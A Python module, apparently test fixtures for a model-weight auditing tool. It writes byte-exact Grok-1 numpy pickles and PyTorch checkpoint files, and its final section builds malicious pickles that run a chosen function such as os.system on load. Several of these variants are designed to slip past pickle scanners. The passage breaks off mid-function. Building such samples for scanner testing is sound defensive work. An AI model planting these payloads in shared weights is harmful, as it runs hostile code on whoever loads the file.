"""Writers for pickle-based weights, none of which needs torch.

(a) Grok-1 leaves exactly as xai-org/grok-1 ``checkpoint.py`` writes them: ``pickle.dump`` (protocol 4,
    the C pickler) of a numpy array or of a ``QuantizedWeight8bit`` dataclass living in ``__main__``.
    :class:`Protocol4Emitter` reproduces the C pickler's opcode stream (memo, frames, the large-payload
    rule that puts payloads of 64 KiB or more outside frames) for any shape, and writes payloads it
    has no data for as sparse holes, so a 318 GB checkpoint costs a few megabytes of disk. A test
    checks its bytes against ``pickle.dumps`` for small arrays.
(b) PyTorch files: the zip layout of ``torch.save`` (caffe2 PyTorchStreamWriter on miniz: records
    aligned to 64 bytes by an ``FB`` extra field, data descriptors, zip64 end records, zero
    timestamps, a ``.data/serialization_id``) and the legacy layout (five pickles, then each storage as
    an 8-byte element count and its bytes). ``data.pkl`` is written by the pure-Python pickler with
    ``persistent_id``, exactly as torch's pickler would, with stand-ins for torch's globals.
(c) Malicious pickles, written opcode by opcode.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zlib
from collections import OrderedDict
from dataclasses import dataclass, field
from pathlib import Path
from typing import BinaryIO, Iterable, Mapping, Sequence, Union

FRAME_SIZE_TARGET = 64 * 1024

# ---------------------------------------------------------------------------------------------------
# (a) numpy arrays and Grok-1 leaves, protocol 4, byte-for-byte what the C pickler writes.

# dtype name -> (pickled dtype argument, byte-order char, elsize, alignment, flags) as numpy's
# dtype.__reduce__ returns them; ml_dtypes types pickle their class instead of a string.
_DTYPE_REDUCE: dict[str, tuple[str, str, int, int, int]] = {
    "f2": ("f2", "<", -1, -1, 0), "f4": ("f4", "<", -1, -1, 0), "f8": ("f8", "<", -1, -1, 0),
    "i1": ("i1", "|", -1, -1, 0), "u1": ("u1", "|", -1, -1, 0), "b1": ("b1", "|", -1, -1, 0),
    "i2": ("i2", "<", -1, -1, 0), "u2": ("u2", "<", -1, -1, 0), "i4": ("i4", "<", -1, -1, 0),
    "u4": ("u4", "<", -1, -1, 0), "i8": ("i8", "<", -1, -1, 0), "u8": ("u8", "<", -1, -1, 0),
    "c8": ("c8", "<", -1, -1, 0),
    "bfloat16": ("ml_dtypes.bfloat16", "<", 2, 2, 64),
    "float8_e4m3fn": ("ml_dtypes.float8_e4m3fn", "<", 1, 1, 64),
    "float8_e5m2": ("ml_dtypes.float8_e5m2", "<", 1, 1, 64),
}
ITEMSIZE = {"f2": 2, "f4": 4, "f8": 8, "i1": 1, "u1": 1, "b1": 1, "i2": 2, "u2": 2, "i4": 4, "u4": 4,
            "i8": 8, "u8": 8, "c8": 8, "bfloat16": 2, "float8_e4m3fn": 1, "float8_e5m2": 1}

# numpy 1.x (Grok-1 pins numpy 1.26.4) pickles _reconstruct from numpy.core, numpy 2.x from numpy._core.
NUMPY1_MULTIARRAY = "numpy.core.multiarray"
NUMPY2_MULTIARRAY = "numpy._core.multiarray"


@dataclass(frozen=True)
class ArraySpec:
    """A numpy array to pickle: ``data`` None means "leave a sparse hole of the right size"."""

    dtype: str
    shape: tuple[int, ...]
    data: bytes | None = None
    fortran: bool = False

    @property
    def nbytes(self) -> int:
        count = 1
        for dim in self.shape:
            count *= dim
        return count * ITEMSIZE[self.dtype]


@dataclass(frozen=True)
class QuantizedSpec:
    """Grok-1's ``QuantizedWeight8bit(weight=int8 array, scales=bf16 array)`` in ``__main__``."""

    weight: ArraySpec
    scales: ArraySpec
    module: str = "__main__"


Picklable = Union[ArraySpec, QuantizedSpec, Mapping[str, Union[ArraySpec, QuantizedSpec]]]


@dataclass
class Layout:
    """Where an emitted file put each array's data: label -> (absolute offset, length)."""

    payloads: dict[str, tuple[int, int]] = field(default_factory=dict)
    size: int = 0


class Protocol4Emitter:
    """Emits the opcode stream ``pickle.dumps(obj, protocol=4)`` produces for arrays and QW8 objects."""

    def __init__(self, multiarray_module: str = NUMPY1_MULTIARRAY):
        self.multiarray = multiarray_module
        self.segments: list[bytes | int] = [b"\x80\x04"]  # bytes, or an int: a hole of that size
        self.frame = bytearray()
        self.memo_size = 0
        self.shared: dict[object, int] = {}
        self.position = 2  # bytes emitted before the current frame
        self.layout = Layout()

    # -- framing ----------------------------------------------------------------------------------

    def _write(self, data: bytes) -> None:
        self.frame += data

    def _commit_frame(self) -> None:
        if self.frame:
            # Frames shorter than 4 bytes are written without a FRAME opcode (FRAME_SIZE_MIN).
            header = b"\x95" + struct.pack("<Q", len(self.frame)) if len(self.frame) >= 4 else b""
            self.segments.append(header + bytes(self.frame))
            self.position += len(header) + len(self.frame)
            self.frame = bytearray()

    def _frame_offset(self) -> int:
        """Absolute offset the next byte written into the current frame will have."""
        return self.position + 9 + len(self.frame)

    # -- memo ------------------------------------------------------------------------------------

    def _memoize(self, key: object = None) -> None:
        if key is not None:
            self.shared[key] = self.memo_size
        self.memo_size += 1
        self._write(b"\x94")

    def _get(self, key: object) -> bool:
        index = self.shared.get(key)
        if index is None:
            return False
        self._write(b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index))
        return True

    # -- scalars ----------------------------------------------------------------------------------

    def _int(self, value: int) -> None:
        if 0 <= value < 256:
            self._write(b"K" + bytes([value]))
        elif 0 <= value < 65536:
            self._write(b"M" + struct.pack("<H", value))
        elif -(2**31) <= value < 2**31:
            self._write(b"J" + struct.pack("<i", value))
        else:
            raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
            self._write(b"\x8a" + bytes([len(raw)]) + raw)

    def _str(self, text: str, key: object = None) -> None:
        if key is not None and self._get(key):
            return
        raw = text.encode("utf-8")
        if len(raw) < 256:
            self._write(b"\x8c" + bytes([len(raw)]) + raw)
        else:
            self._write(b"X" + struct.pack("<I", len(raw)) + raw)
        self._memoize(key)

    def _name(self, text: str) -> None:
        # Module names, qualnames and attribute names are interned: one memo entry per pickle.
        self._str(text, ("name", text))

    def _global(self, module: str, name: str) -> None:
        if self._get(("global", module, name)):
            return
        self._name(module)
        self._name(name)
        self._write(b"\x93")
        self._memoize(("global", module, name))

    def _bytes(self, length: int, data: bytes | None, label: str | None, shared: bool = False) -> None:
        key = ("bytes", data) if shared else None
        if key is not None and self._get(key):
            return
        if length < 256:
            header = b"C" + bytes([length])
        elif length <= 0xFFFFFFFF:
            header = b"B" + struct.pack("<I", length)
        else:
            header = b"\x8e" + struct.pack("<Q", length)
        if length >= FRAME_SIZE_TARGET:
            # The C pickler commits the frame and writes large payloads outside any frame.
            self._commit_frame()
            self.segments.append(header)
            self.position += len(header)
            if label is not None:
                self.layout.payloads[label] = (self.position, length)
            self.segments.append(data if data is not None else length)
            self.position += length
        else:
            self._write(header)
            if label is not None:
                self.layout.payloads[label] = (self._frame_offset(), length)
            self._write(data if data is not None else bytes(length))
        self._memoize(key)

    def _tuple(self, emit_items: Sequence) -> None:
        if not emit_items:
            self._write(b")")
            return
        if len(emit_items) > 3:
            self._write(b"(")
        for emit in emit_items:
            emit()
        self._write(b"t" if len(emit_items) > 3 else bytes([0x84 + len(emit_items)]))
        self._memoize()

    # -- numpy ------------------------------------------------------------------------------------

    def _dtype(self, dtype: str) -> None:
        if self._get(("dtype", dtype)):
            return
        argument, order, elsize, alignment, flags = _DTYPE_REDUCE[dtype]
        self._global("numpy", "dtype")
        if argument.startswith("ml_dtypes."):
            first = lambda: self._global("ml_dtypes", argument.split(".", 1)[1])  # noqa: E731
        else:
            first = lambda: self._str(argument)  # noqa: E731
        self._tuple([first, lambda: self._write(b"\x89"), lambda: self._write(b"\x88")])
        self._write(b"R")
        self._memoize(("dtype", dtype))
        self._write(b"(")
        self._int(3)
        self._str(order, ("char", order))  # one-character strings are cached objects
        self._write(b"NNN")
        for value in (elsize, alignment, flags):
            self._int(value)
        self._write(b"t")
        self._memoize()
        self._write(b"b")

    def array(self, spec: ArraySpec, label: str | None = None) -> None:
        if spec.data is not None and len(spec.data) != spec.nbytes:
            raise ValueError(f"{label}: {len(spec.data)} bytes for {spec.nbytes}")
        self._global(self.multiarray, "_reconstruct")
        self._tuple([
            lambda: self._global("numpy", "ndarray"),
            lambda: self._tuple([lambda: self._int(0)]),
            lambda: self._bytes(1, b"b", None, shared=True),
        ])
        self._write(b"R")
        self._memoize()
        self._write(b"(")
        self._int(1)
        self._tuple([(lambda dim=dim: self._int(dim)) for dim in spec.shape])
        self._dtype(spec.dtype)
        self._write(b"\x88" if spec.fortran else b"\x89")
        self._bytes(spec.nbytes, spec.data, label, shared=spec.nbytes <= 1 and spec.data is not None)
        self._write(b"t")
        self._memoize()
        self._write(b"b")

    def quantized(self, spec: QuantizedSpec, label: str) -> None:
        # dataclass -> copyreg.__reduce_ex__: NEWOBJ(cls, ()) then BUILD with the instance __dict__.
        self._global(spec.module, "QuantizedWeight8bit")
        self._write(b")\x81")
        self._memoize()
        self._write(b"}")
        self._memoize()
        self._write(b"(")
        self._name("weight")
        self.array(spec.weight, label)
        self._name("scales")
        self.array(spec.scales, label + ":scales")
        self._write(b"u")
        self._write(b"b")

    def mapping(self, items: Mapping[str, ArraySpec | QuantizedSpec]) -> None:
        if len(items) >= 1000:
            raise ValueError("dicts of 1000 or more items are batched by the pickler; not modelled")
        self._write(b"}")
        self._memoize()
        if len(items) > 1:
            self._write(b"(")
        for key, value in items.items():
            self._str(key)
            self.value(value, key)
        if items:
            self._write(b"u" if len(items) > 1 else b"s")

    def value(self, obj: Picklable, label: str) -> None:
        if isinstance(obj, ArraySpec):
            self.array(obj, label)
        elif isinstance(obj, QuantizedSpec):
            self.quantized(obj, label)
        else:
            self.mapping(obj)

    def finish(self) -> list[bytes | int]:
        self._write(b".")
        self._commit_frame()
        self.layout.size = self.position
        return self.segments


def emit_pickle(obj: Picklable, multiarray_module: str = NUMPY1_MULTIARRAY) -> tuple[list[bytes | int], Layout]:
    emitter = Protocol4Emitter(multiarray_module)
    emitter.value(obj, "")
    return emitter.finish(), emitter.layout


def pickle_bytes(obj: Picklable, multiarray_module: str = NUMPY1_MULTIARRAY) -> bytes:
    """The whole pickle in memory (holes become zero bytes); for small objects and comparisons."""
    segments, _ = emit_pickle(obj, multiarray_module)
    return b"".join(part if isinstance(part, bytes) else bytes(part) for part in segments)


def write_segments(path: Path, segments: Iterable[bytes | int]) -> int:
    """Write bytes and sparse holes; returns the file size."""
    with open(path, "wb") as handle:
        for part in segments:
            if isinstance(part, int):
                handle.seek(part, os.SEEK_CUR)
            else:
                handle.write(part)
        size = handle.tell()
        handle.truncate(size)
    return size


def write_pickle(path: Path, obj: Picklable, multiarray_module: str = NUMPY1_MULTIARRAY) -> Layout:
    segments, layout = emit_pickle(obj, multiarray_module)
    write_segments(path, segments)
    return layout


# -- Grok-1 ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class GrokDims:
    """The dimensions that shape a Grok-1 checkpoint (run.py / model.py constants by default)."""

    num_layers: int = 64
    vocab_size: int = 131072
    emb_size: int = 6144
    ffn_size: int = 32768
    num_experts: int = 8
    num_q_heads: int = 48
    num_kv_heads: int = 8
    key_size: int = 128
    # The attention output and MoE linear_1 scales hold one row per 1/8 of the input dimension.
    row_blocks: int = 8


GROK1 = GrokDims()


def grok_leaf_specs(dims: GrokDims = GROK1) -> list[tuple[str, ArraySpec | QuantizedSpec]]:
    """(leaf name, what its file holds) in checkpoint file order, without data."""
    from openaudit.inspect.pickle.grok_layout import leaf_paths

    e, f, x = dims.emb_size, dims.ffn_size, dims.num_experts
    q, kv = dims.num_q_heads * dims.key_size, dims.num_kv_heads * dims.key_size
    blocks = dims.row_blocks

    def quantized(shape: tuple[int, ...], scales: tuple[int, ...]) -> QuantizedSpec:
        return QuantizedSpec(ArraySpec("i1", shape), ArraySpec("bfloat16", scales))

    per_leaf = {
        "moe/linear/w": quantized((x, e, f), (x, 1, f)),
        "moe/linear_1/w": quantized((x, f, e), (x, blocks, e)),
        "moe/linear_v/w": quantized((x, e, f), (x, 1, f)),
        "multi_head_attention/key/w": quantized((e, kv), (1, kv)),
        "multi_head_attention/linear/w": quantized((q, e), (blocks, e)),
        "multi_head_attention/query/w": quantized((e, q), (1, q)),
        "multi_head_attention/value/w": quantized((e, kv), (1, kv)),
        "rms_norm/scale": ArraySpec("f4", (e,)),
        "rms_norm_1/scale": ArraySpec("f4", (e,)),
        "rms_norm_2/scale": ArraySpec("f4", (e,)),
        "rms_norm_3/scale": ArraySpec("f4", (e,)),
        "router/w": ArraySpec("f4", (e, x)),
    }
    specs: list[tuple[str, ArraySpec | QuantizedSpec]] = []
    for leaf in leaf_paths(dims.num_layers):
        if leaf.startswith("language_model/in_out_embed"):
            specs.append((leaf, ArraySpec("f4", (dims.vocab_size, e))))
        elif leaf == "language_model/rms_norm/scale":
            specs.append((leaf, ArraySpec("f4", (e,))))
        else:
            specs.append((leaf, per_leaf[leaf.split("/", 2)[2]]))
    return specs


def with_random_data(spec: ArraySpec | QuantizedSpec, seed: int) -> ArraySpec | QuantizedSpec:
    """The same spec with deterministic data, for small checkpoints whose bytes a test reads back."""
    import numpy as np

    rng = np.random.default_rng(seed)

    def fill(array: ArraySpec) -> ArraySpec:
        raw = rng.integers(0, 256, size=array.nbytes, dtype=np.uint8).tobytes()
        return ArraySpec(array.dtype, array.shape, raw, array.fortran)

    if isinstance(spec, QuantizedSpec):
        return QuantizedSpec(fill(spec.weight), fill(spec.scales), spec.module)
    return fill(spec)


def write_grok_checkpoint(folder: Path, dims: GrokDims = GROK1, *, shard: int = 0, real_data: bool = False,
                          multiarray_module: str = NUMPY1_MULTIARRAY,
                          skip: Iterable[int] = ()) -> dict[str, Layout]:
    """A ``ckpt-0`` folder of ``tensor{i:05d}_{shard:03d}`` files; sparse unless ``real_data``."""
    folder.mkdir(parents=True, exist_ok=True)
    skipped = set(skip)
    layouts: dict[str, Layout] = {}
    for index, (leaf, spec) in enumerate(grok_leaf_specs(dims)):
        if index in skipped:
            continue
        if real_data:
            spec = with_random_data(spec, index)
        name = f"tensor{index:05d}_{shard:03d}"
        layouts[name] = write_pickle(folder / name, spec, multiarray_module)
    return layouts


# ---------------------------------------------------------------------------------------------------
# (b) PyTorch files.

_TORCH_STORAGE_CLASS = {
    "F32": "FloatStorage", "F64": "DoubleStorage", "F16": "HalfStorage", "BF16": "BFloat16Storage",
    "I64": "LongStorage", "I32": "IntStorage", "I16": "ShortStorage", "I8": "CharStorage",
    "U8": "ByteStorage", "BOOL": "BoolStorage", "C64": "ComplexFloatStorage",
}
_TORCH_DTYPE_NAME = {"F8_E4M3": "float8_e4m3fn", "F8_E5M2": "float8_e5m2", "U16": "uint16", "U32": "uint32",
                     "U64": "uint64"}
_TORCH_ITEMSIZE = {"F32": 4, "F64": 8, "F16": 2, "BF16": 2, "I64": 8, "I32": 4, "I16": 2, "I8": 1, "U8": 1,
                   "BOOL": 1, "C64": 8, "F8_E4M3": 1, "F8_E5M2": 1, "U16": 2, "U32": 4, "U64": 8}


class GlobalRef:
    """Pickles as ``GLOBAL module name`` without importing anything (a stand-in for torch's globals).

    Instances are interned, like the functions and classes they stand for, so the pickler's memo
    turns the second use into a BINGET as it does for the real objects.
    """

    _interned: dict[tuple[str, str], "GlobalRef"] = {}

    def __new__(cls, module: str, name: str) -> "GlobalRef":
        key = (module, name)
        existing = cls._interned.get(key)
        if existing is None:
            existing = super().__new__(cls)
            existing.module, existing.name = module, name
            cls._interned[key] = existing
        return existing

    def __call__(self, *args: object, **kwargs: object) -> None:  # pickle wants reduce functions callable
        raise TypeError(f"{self.module}.{self.name} is a stand-in")


@dataclass(eq=False)
class TorchStorage:
    """One storage: ``dtype`` canonical; ``data`` None means a sparse hole of ``numel`` elements."""

    dtype: str
    numel: int
    data: bytes | None = None

    @property
    def nbytes(self) -> int:
        return self.numel * _TORCH_ITEMSIZE[self.dtype]


@dataclass(eq=False)
class TorchTensor:
    storage: TorchStorage
    shape: tuple[int, ...]
    stride: tuple[int, ...] | None = None
    storage_offset: int = 0
    requires_grad: bool = False
    parameter: bool = False  # wrap in torch._utils._rebuild_parameter, as nn.Parameter pickles

    def __reduce_ex__(self, protocol: int):
        stride = self.stride if self.stride is not None else _contiguous(self.shape)
        hooks = OrderedDict()
        if self.storage.dtype in _TORCH_DTYPE_NAME:
            # torch >= 2.1 pickles newer dtypes with _rebuild_tensor_v3 and an UntypedStorage.
            args = (_UntypedView(self.storage), self.storage_offset, tuple(self.shape), tuple(stride),
                    self.requires_grad, hooks, GlobalRef("torch", _TORCH_DTYPE_NAME[self.storage.dtype]))
            tensor = (GlobalRef("torch._utils", "_rebuild_tensor_v3"), args)
        else:
            args = (self.storage, self.storage_offset, tuple(self.shape), tuple(stride), self.requires_grad, hooks)
            tensor = (GlobalRef("torch._utils", "_rebuild_tensor_v2"), args)
        if self.parameter:
            inner = TorchTensor(self.storage, self.shape, self.stride, self.storage_offset, False, False)
            return GlobalRef("torch._utils", "_rebuild_parameter"), (inner, self.requires_grad, OrderedDict())
        return tensor


@dataclass(eq=False)
class _UntypedView:
    storage: TorchStorage


def _contiguous(shape: Sequence[int]) -> tuple[int, ...]:
    strides, step = [], 1
    for dim in reversed(shape):
        strides.append(step)
        step *= max(dim, 1)
    return tuple(reversed(strides))


class _TorchPickler(pickle._Pickler):  # the pure-Python pickler, so GLOBAL needs no import
    dispatch = dict(pickle._Pickler.dispatch)

    def __init__(self, file: BinaryIO, legacy: bool, keys: dict[int, str]):
        super().__init__(file, protocol=2)
        self.legacy = legacy
        self.keys = keys
        self.storages: dict[str, TorchStorage] = {}

    def save_global_ref(self, obj: GlobalRef) -> None:
        self.write(b"c" + obj.module.encode("ascii") + b"\n" + obj.name.encode("ascii") + b"\n")
        self.memoize(obj)

    dispatch[GlobalRef] = save_global_ref

    def persistent_id(self, obj: object):
        untyped = isinstance(obj, _UntypedView)
        storage = obj.storage if untyped else obj
        if not isinstance(storage, TorchStorage):
            return None
        key = self.keys.setdefault(id(storage), self._next_key(len(self.keys)))
        self.storages[key] = storage
        storage_type = GlobalRef("torch", "UntypedStorage" if untyped else _TORCH_STORAGE_CLASS[storage.dtype])
        numel = storage.nbytes if untyped else storage.numel
        pid = ("storage", storage_type, key, "cpu", numel)
        return pid + (None,) if self.legacy else pid

    def _next_key(self, index: int) -> str:
        # torch.save numbers storages; the legacy writer used str(storage._cdata), a pointer.
        return str(94_000_000_000_000 + 4096 * index) if self.legacy else str(index)


def torch_pickle(obj: object, *, legacy: bool = False) -> tuple[bytes, dict[str, TorchStorage]]:
    """``data.pkl`` (or the legacy main pickle) and the storages it refers to, in key order."""
    buffer = io.BytesIO()
    pickler = _TorchPickler(buffer, legacy, {})
    pickler.dump(obj)
    return buffer.getvalue(), pickler.storages


def state_dict(tensors: Mapping[str, TorchTensor], metadata: bool = True) -> OrderedDict:
    """An OrderedDict like ``module.state_dict()``, with its ``_metadata`` attribute."""
    result = OrderedDict(tensors)
    if metadata:
        result._metadata = OrderedDict({"": {"version": 1}})  # type: ignore[attr-defined]
    return result


# -- the zip layout (caffe2 PyTorchStreamWriter on miniz) ------------------------------------------


def _libstdcxx_hash(data: bytes) -> int:
    """std::hash<std::string> of libstdc++ (_Hash_bytes, seed 0xc70f6907), as c10::hash uses it."""
    mask = (1 << 64) - 1
    mul = (0xC6A4A793 << 32) + 0x5BD1E995

    def shift_mix(value: int) -> int:
        return value ^ (value >> 47)

    length = len(data)
    aligned = length & ~7
    result = (0xC70F6907 ^ (length * mul)) & mask
    for start in range(0, aligned, 8):
        word = int.from_bytes(data[start : start + 8], "little")
        word = (shift_mix((word * mul) & mask) * mul) & mask
        result ^= word
        result = (result * mul) & mask
    if length & 7:
        word = int.from_bytes(data[aligned:], "little")
        result ^= word
        result = (result * mul) & mask
    result = (shift_mix(result) * mul) & mask
    return shift_mix(result)


def _hash_combine(seed: int, value: int) -> int:
    mask = (1 << 64) - 1
    return (seed ^ ((value + 0x9E3779B9 + (seed << 6) + (seed >> 2)) & mask)) & mask


class TorchZipWriter:
    """Writes records the way PyTorchStreamWriter does; ``data`` may be an int (a sparse hole)."""

    def __init__(self, handle: BinaryIO, archive_name: str = "archive", alignment: int = 64,
                 compress: Iterable[str] = ()):
        self.handle = handle
        self.archive = archive_name
        self.alignment = alignment
        self.compress = set(compress)
        self.position = 0
        self.central: list[bytes] = []
        self.written: list[str] = []
        self.combined_crc = 0
        self.offsets: dict[str, int] = {}  # record name -> absolute data offset

    def _emit(self, data: bytes | int) -> None:
        if isinstance(data, int):
            self.handle.seek(data, os.SEEK_CUR)
            self.position += data
            return
        # PyTorchStreamWriter folds the CRC of every data descriptor it writes into the serialization id.
        if len(data) >= 8 and data[:4] == b"PK\x07\x08":
            self.combined_crc = _hash_combine(self.combined_crc, struct.unpack_from("<I", data, 4)[0])
        self.handle.write(data)
        self.position += len(data)

    def write_record(self, name: str, data: bytes | int, raw_name: str | None = None) -> None:
        full = (raw_name if raw_name is not None else f"{self.archive}/{name}").encode("utf-8")
        size = data if isinstance(data, int) else len(data)
        crc = zlib.crc32(bytes(size)) if isinstance(data, int) else zlib.crc32(data)
        method = 0
        payload: bytes | int = data
        if name in self.compress and not isinstance(data, int):
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = compressor.compress(data) + compressor.flush()
            method = 8
        stored_size = payload if isinstance(payload, int) else len(payload)
        cursor = self.position
        big = size >= 0xFFFFFFFF or cursor >= 0xFFFFFFFF
        zip64_local = b""
        if big:
            fields = b""
            if size >= 0xFFFFFFFF:
                fields += struct.pack("<QQ", size, 0)  # miniz writes comp size 0 here: not known yet
            if cursor >= 0xFFFFFFFF:
                fields += struct.pack("<Q", cursor)
            zip64_local = struct.pack("<HH", 1, len(fields)) + fields
        extra = zip64_local + self._padding(cursor, len(full), size)
        flags = (0x0008 if size else 0) | 0x0800
        version = 20 if method else 0
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method, 0, 0, 0, 0, 0, len(full), len(extra))
        self._emit(header + full + extra)
        self.offsets[name] = self.position
        self._emit(payload)
        if size:
            if zip64_local:
                descriptor = struct.pack("<IIQQ", 0x08074B50, crc, stored_size, size)
            else:
                descriptor = struct.pack("<IIII", 0x08074B50, crc, stored_size, size)
            self._emit(descriptor)
        zip64_central = b""
        if big:
            fields = b""
            if size >= 0xFFFFFFFF:
                fields += struct.pack("<QQ", size, stored_size)
            if cursor >= 0xFFFFFFFF:
                fields += struct.pack("<Q", cursor)
            zip64_central = struct.pack("<HH", 1, len(fields)) + fields
        self.central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, version, flags, method, 0, 0, crc,
                        min(stored_size, 0xFFFFFFFF), min(size, 0xFFFFFFFF), len(full), len(zip64_central), 0, 0,
                        0, 0, min(cursor, 0xFFFFFFFF))
            + full + zip64_central
        )
        self.written.append(name)

    def _padding(self, cursor: int, name_size: int, size: int) -> bytes:
        start = cursor + 30 + name_size + 4
        if size >= 0xFFFFFFFF or cursor >= 0xFFFFFFFF:
            start += 4
            if size >= 0xFFFFFFFF:
                start += 16
            if cursor >= 0xFFFFFFFF:
                start += 8
        padding = (-start) % self.alignment
        return b"FB" + struct.pack("<H", padding) + b"Z" * padding

    def finish(self, version: int = 3) -> None:
        if "version" not in self.written and ".data/version" not in self.written:
            self.write_record("version" if version < 6 else ".data/version", f"{version}\n".encode())
        if "byteorder" not in self.written:
            self.write_record("byteorder", b"little")
        names_hash = 0
        for name in sorted(set(self.written)):
            names_hash = _hash_combine(names_hash, _libstdcxx_hash(name.encode("utf-8")))
        self.write_record(".data/serialization_id", f"{names_hash:020d}{self.combined_crc:020d}".encode())
        directory = b"".join(self.central)
        cd_offset = self.position
        self._emit(directory)
        count = len(self.central)
        zip64_offset = self.position
        self._emit(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 0x002D, 0, 0, count, count, len(directory),
                               cd_offset))
        self._emit(struct.pack("<IIQI", 0x07064B50, 0, zip64_offset, 1))
        self._emit(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
                               min(len(directory), 0xFFFFFFFF), min(cd_offset, 0xFFFFFFFF), 0))
        self.handle.truncate(self.position)


def write_torch_zip(path: Path, obj: object, *, archive_name: str | None = None, compress: Iterable[str] = (),
                    extra_records: Sequence[tuple[str, bytes]] = (), data_pkl: bytes | None = None) -> dict[str, int]:
    """``torch.save(obj, path)`` in the zip format; returns record name -> absolute data offset.

    ``archive_name`` defaults to the file's stem, as PyTorchStreamWriter names it. ``data_pkl`` replaces
    the pickle (for hostile samples); ``extra_records`` are appended (name relative to the folder, or
    absolute when it starts with "//").
    """
    pickled, storages = torch_pickle(obj)
    if data_pkl is not None:
        pickled = data_pkl
    name = archive_name if archive_name is not None else path.name.rsplit(".", 1)[0]
    with open(path, "wb") as handle:
        writer = TorchZipWriter(handle, name, compress=compress)
        writer.write_record("data.pkl", pickled)
        writer.write_record(".format_version", b"1")
        writer.write_record(".storage_alignment", b"64")
        writer.write_record("byteorder", b"little")
        for key, storage in storages.items():
            writer.write_record(f"data/{key}", storage.data if storage.data is not None else storage.nbytes)
        for record, data in extra_records:
            if record.startswith("//"):
                writer.write_record(record, data, raw_name=record[2:])
            else:
                writer.write_record(record, data)
        writer.finish()
    return writer.offsets


# -- the legacy layout ------------------------------------------------------------------------------

TORCH_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL_VERSION = 1001


def write_torch_legacy(path: Path, obj: object) -> dict[str, int]:
    """``torch.save(obj, path, _use_new_zipfile_serialization=False)``; returns key -> data offset."""
    main, storages = torch_pickle(obj, legacy=True)
    sys_info = dict(protocol_version=TORCH_PROTOCOL_VERSION, little_endian=True,
                    type_sizes=dict(short=2, int=4, long=8))
    offsets: dict[str, int] = {}
    with open(path, "wb") as handle:
        for part in (TORCH_MAGIC_NUMBER, TORCH_PROTOCOL_VERSION, sys_info):
            handle.write(pickle.dumps(part, protocol=2))
        handle.write(main)
        keys = sorted(storages)
        handle.write(pickle.dumps(keys, protocol=2))
        for key in keys:
            storage = storages[key]
            handle.write(struct.pack("<q", storage.numel))
            offsets[key] = handle.tell()
            if storage.data is not None:
                handle.write(storage.data)
            else:
                handle.seek(storage.nbytes, os.SEEK_CUR)
        handle.truncate(handle.tell())
    return offsets


# ---------------------------------------------------------------------------------------------------
# (c) Malicious pickles, opcode by opcode. Each builder returns bytes; ``marker`` is a path that the
# payload would create or a command it would run.


def _short_unicode(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


def _binunicode(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_call_p0(module: str, name: str, *args: str) -> bytes:
    """Protocol 0: ``c<module>\\n<name>\\n(S'arg'…tR.``"""
    quoted = b"".join(b"V" + arg.encode("raw-unicode-escape") + b"\n" for arg in args)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + quoted + b"tR."


def stack_global_call(module: str, name: str, *args: str, protocol: int = 4) -> bytes:
    """Protocol 4 style: module and name pushed as strings, STACK_GLOBAL, args tuple, REDUCE."""
    arguments = b"".join(_short_unicode(arg) for arg in args)
    return (b"\x80" + bytes([protocol]) + _short_unicode(module) + _short_unicode(name) + b"\x93(" + arguments
            + b"tR.")


def inst_call(module: str, name: str, *args: str) -> bytes:
    """Protocol 0 INST: ``(V…\\nimodule\\nname\\n.``"""
    arguments = b"".join(b"V" + arg.encode("raw-unicode-escape") + b"\n" for arg in args)
    return b"(" + arguments + b"i" + module.encode() + b"\n" + name.encode() + b"\n."


def obj_call(module: str, name: str, *args: str) -> bytes:
    """Protocol 1 OBJ: ``(c<module>\\n<name>\\nX…o.``"""
    arguments = b"".join(_binunicode(arg) for arg in args)
    return b"(c" + module.encode() + b"\n" + name.encode() + b"\n" + arguments + b"o."


def getattr_chain(module: str, attribute: str, *args: str) -> bytes:
    """``getattr(__import__(module), attribute)(*args)``: builtins only, the callable computed at load."""
    arguments = b"".join(_short_unicode(arg) for arg in args)
    return (
        b"\x80\x04"
        + _short_unicode("builtins") + _short_unicode("getattr") + b"\x93"
        + _short_unicode("builtins") + _short_unicode("__import__") + b"\x93"
        + _short_unicode(module) + b"\x85R"  # __import__(module)
        + _short_unicode(attribute) + b"\x86R"  # getattr(mod, attribute)
        + b"(" + arguments + b"tR."
    )


def resolve_name_call(target: str, *args: str) -> bytes:
    """``pkgutil.resolve_name('os:system')(*args)`` (GHSA-vvpj-8cmc-gx39)."""
    arguments = b"".join(_short_unicode(arg) for arg in args)
    return (b"\x80\x04" + _short_unicode("pkgutil") + _short_unicode("resolve_name") + b"\x93"
            + _short_unicode(target) + b"\x85R(" + arguments + b"tR.")


def attrgetter_call(module: str, attribute: str, *args: str) -> bytes:
    """``operator.attrgetter(attribute)(importlib.import_module(module))(*args)``."""
    arguments = b"".join(_short_unicode(arg) for arg in args)
    return (
        b"\x80\x04"
        + _short_unicode("operator") + _short_unicode("attrgetter") + b"\x93"
        + _short_unicode(attribute) + b"\x85R"
        + _short_unicode("importlib") + _short_unicode("import_module") + b"\x93"
        + _short_unicode(module) + b"\x85R"
        + b"\x85R"  # attrgetter(attribute)(module)
        + b"(" + arguments + b"tR."
    )


def memo_stack_global(module: str, name: str, *args: str) -> bytes:
    """STACK_GLOBAL whose operands come back from the memo (BINPUT … BINGET)."""
    arguments = b"".join(_short_unicode(arg) for arg in args)
    return (b"\x80\x04" + _short_unicode(module) + b"q\x00" + _short_unicode(name) + b"q\x01" + b"00"
            + b"h\x00h\x01\x93(" + arguments + b"tR.")


def dynamic_stack_global() -> bytes:
    """STACK_GLOBAL whose module name is itself computed by a call (str.join at load time)."""
    return (b"\x80\x04" + _short_unicode("builtins") + _short_unicode("str") + b"\x93"
